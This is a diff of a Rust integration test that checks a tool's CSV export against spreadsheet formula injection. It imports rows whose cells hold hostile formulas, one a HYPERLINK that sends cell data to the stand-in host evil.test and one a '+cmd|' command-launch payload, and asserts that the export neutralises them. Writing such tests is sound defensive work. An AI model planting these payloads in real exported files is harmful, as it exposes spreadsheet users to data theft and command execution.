@@ -129,32 +129,63 @@ fn the_shared_evaluation_sets_import_as_they_are() {
     assert_eq!(found["hits"][0]["title"], first["title"], "{found}");
 }
 
-#[test]
-fn exported_csv_imports_back() {
-    let directory = tempfile::tempdir().unwrap();
-    let source = directory.path().join("source.csv");
-    std::fs::write(
-        &source,
-        "id,title,abstract,keywords,transfer_modes\n\
-         a,纳米银导电墨水,用于柔性电路印刷的纳米银导电墨水。,纳米银;柔性电子,license;assignment\n\
-         b,Biodegradable mulch film,A biodegradable agricultural mulch film made from PBAT and starch.,mulch,joint_development\n",
-    )
-    .unwrap();
-    let (ok, output) = import(directory.path(), &["--kind", "results", source.to_str().unwrap()]);
-    assert!(ok, "{output}");
-    let mut command = techmatch(directory.path());
+fn export_results(directory: &Path) -> String {
+    let mut command = techmatch(directory);
     command.args(["serve", "--listen", "127.0.0.1:0"]);
     let served = serve(command);
     let (status, exported) = try_http("GET", &format!("{}/api/v1/export/results", served.address), None, None).unwrap();
-    assert_eq!(status, 200);
-    drop(served);
+    assert_eq!(status, 200, "{exported}");
+    exported
+}
 
+#[test]
+fn exported_csv_imports_back() {
+    let directory = tempfile::tempdir().unwrap();
+    // JSON Lines, so that the hostile cells reach the database exactly as written.
+    let source = directory.path().join("source.jsonl");
+    let rows = [
+        serde_json::json!({"id": "a", "title": "纳米银导电墨水", "abstract": "用于柔性电路印刷的纳米银导电墨水。",
+            "keywords": ["纳米银", "柔性电子"], "transfer_modes": ["license", "assignment"]}),
+        serde_json::json!({"id": "b", "title": "Biodegradable mulch film",
+            "abstract": "A biodegradable agricultural mulch film made from PBAT and starch.", "keywords": ["mulch"],
+            "transfer_modes": ["joint_development"]}),
+        serde_json::json!({"id": "c", "title": "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
+            "abstract": "+cmd|' /C calc'!A0 starts this abstract, which a spreadsheet would run.",
+            "keywords": ["-2+3", "@SUM(A1)", "'quoted"], "transfer_modes": ["license"]}),
+    ];
+    let lines: Vec<String> = rows.iter().map(Value::to_string).collect();
+    std::fs::write(&source, lines.join("\n")).unwrap();
+    let (ok, output) = import(directory.path(), &["--kind", "results", source.to_str().unwrap()]);
+    assert!(ok, "{output}");
+    let exported = export_results(directory.path());
+
+    // No cell a spreadsheet opens may start a formula.
+    let mut reader = csv::ReaderBuilder::new().from_reader(exported.trim_start_matches('\u{feff}').as_bytes());
+    let mut cells = 0;
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            cells += 1;
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
+        }
+    }
+    assert!(cells > 0);
+    assert!(exported.contains("'=HYPERLINK"), "{exported}");
+    assert!(exported.contains("'+cmd"), "{exported}");
+
+    // Imported elsewhere, the file gives back the same listings, text for text.
     let copy = tempfile::tempdir().unwrap();
     let file = copy.path().join("exported.csv");
-    std::fs::write(&file, exported).unwrap();
+    std::fs::write(&file, &exported).unwrap();
     let (ok, output) = import(copy.path(), &["--kind", "results", file.to_str().unwrap(), "--strict"]);
     assert!(ok, "{output}");
-    assert!(output.contains("imported 2 new, 0 updated, 0 refused rows (of 2 rows read)"), "{output}");
+    assert!(output.contains("imported 3 new, 0 updated, 0 refused rows (of 3 rows read)"), "{output}");
+    // Newest first: the copy's rows come in the reverse order of the file's.
+    let sorted_lines = |text: &str| {
+        let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
+        lines.sort();
+        lines
+    };
+    assert_eq!(sorted_lines(&export_results(copy.path())), sorted_lines(&exported));
 }
 
 #[test]
